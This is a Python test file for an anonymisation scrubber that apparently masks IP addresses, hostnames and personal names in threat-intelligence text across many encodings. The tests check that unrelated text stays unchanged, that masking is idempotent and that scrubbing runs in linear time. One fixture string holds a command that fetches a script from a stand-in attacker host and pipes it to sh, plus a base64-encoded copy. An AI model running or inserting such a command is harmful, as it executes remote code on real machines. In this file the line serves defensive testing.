"""Texts: what is hidden goes, everything else stays to the letter, and a quick look never overlooks anything."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from noroshi.share.profile import Rule
from tests.share.anonymise.support import masking
from tests.share.canary.secrets import _encodings

KEPT = (
    "198.51.100.9 scanned 1,022 monitored addresses for 4 ports, mostly tcp/23 (block scan); 2,672,000 packets.",
    "45.0.0.1はMiraiの特徴を持つSYNパケットを9個送信しており、感染ホストとみられる（宛先ポート: 23/TCP、2323/TCP）。",
    "wget http://evil.example/a.sh -O- | sh; echo d2dldCBodHRwOi8vZXZpbC5leGFtcGxlLw== | base64 -d",
    "cpe:2.3:a:apache:http_server:2.4.49:*:*:*:*:*:*:* and pkg:npm/left-pad@1.3.0 and CVE-2021-44228, T1059.001",
    "d41d8cd98f00b204e9800998ecf8427e e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "12592121-be4c-5a93-a813-5a5af16e50db 2026-11-20T12:34:56.789Z 1.2.3 v10.0.19041 100% &amp; a=b",
    "ＦＵＬＬ　ｗｉｄｔｈ ｔｅｘｔ、①②③ ﾊﾝｶｸ 🔥",
    "", " ", "\x00\x01\x02", "a" * 5000, "%zz \\x \\u12 &#;",
)  # fmt: skip


@pytest.mark.parametrize("text", KEPT)
def test_what_nobody_hides_stays_to_the_letter(text: str) -> None:
    assert masking("community").scrubber.text(text) == text
    assert masking("community").scrubber.text(text, dense=True) == text


@pytest.mark.parametrize(
    "text",
    [
        "0xCB007107", "3405803783", "0313.0.0161.07", "cb 00 71 07", "ywBxBw==", "7.113.0.203.in-addr.arpa",
        "203-0-113-7.flets.example.jp", "::ffff:cb00:7107", "203。0。113。7", "٢٠٣.٠.١١٣.٧", "203 . 0 . 113 . 7",
        "http://3405803783/", "203.0.113.7:8080", "[203.0.113.7]", "a203.0.113.7b", "1.203.0.113.7.2",
        "eyJpcCI6IjIwMy4wLjExMy43In0=", "cvq 203[.]0[.]113[.]7", "ip=203%2E0%2E113%2E7&x", "x_203_0_113_7_y",
        "KAMOME.EXAMPLE.AC.JP", "a.b.kamome.example.ac.jp.", "sugawara nobuko", "ｓｕｇａｗａｒａ ｎｏｂｕｋｏ",
        "113.0.203.in-addr.arpa", "203.0.113.0/26", "203.0.113.0-203.0.113.255", "MJQXGZJTGIQHG=203.0.113.1",
        "as3405803783", "zm9vidiwmy4wljexmy43",
    ],
)  # fmt: skip
def test_every_form_goes(text: str) -> None:
    for mask in (masking("public"), masking("community")):
        once = mask.scrubber.text(text)
        assert once != text
        assert mask.scrubber.text(f"see {text}, please") != f"see {text}, please"


def test_binary_addresses_in_payloads() -> None:
    mask = masking("community")
    dump = "4500003c1c46400040060000" + "cb007107" + "c6336409" + "00500016"
    assert mask.scrubber.text(dump, dense=True) == "[hidden]"
    assert mask.scrubber.text(dump[:24] + "c6336409", dense=True) == dump[:24] + "c6336409"


texts = st.text(st.sampled_from("abcXYZ019.:/-_%=+@[](){}\\ 　。、のﾄ①\u200b"), max_size=20)
secrets = st.sampled_from(["203.0.113.7", "2001:db8:aaaa::7", "www.kamome.example.ac.jp", "Sugawara Nobuko"])


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(texts, secrets, st.integers(0, 19), texts)
def test_the_quick_look_overlooks_nothing(before: str, secret: str, how: int, after: str) -> None:
    """What `clean` calls clean is not changed by the long look either."""
    scrubber = masking("community").scrubber
    encodings = _encodings(secret)
    text = before + encodings[how % len(encodings)][1] + after
    if scrubber.clean(text):
        assert scrubber._scrub(text, False, 0) == text


@settings(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.text(max_size=200))
def test_any_text_is_read_and_scrubbing_again_changes_nothing(text: str) -> None:
    scrubber = masking("public").scrubber
    once = scrubber.text(text)
    assert scrubber.text(once) == once


def test_hostile_texts_take_linear_time() -> None:
    scrubber = masking("community").scrubber
    for piece in (
        "%41",
        "1.",
        "a:",
        "=41",
        "aGVsbG8",
        "\\x41",
        "203.0.113.",
        "a-",
        "ff ",
        "&#65;",
        "_",
        "1-",
        "０",
    ):
        text = piece * (60_000 // len(piece))
        assert isinstance(scrubber.text(text), str)


def test_free_text_can_be_dropped() -> None:
    assert masking("public").text("anything") is None
    assert masking("community").text("anything") == "anything"
    assert masking(free_text=Rule("drop")).text("x") is None
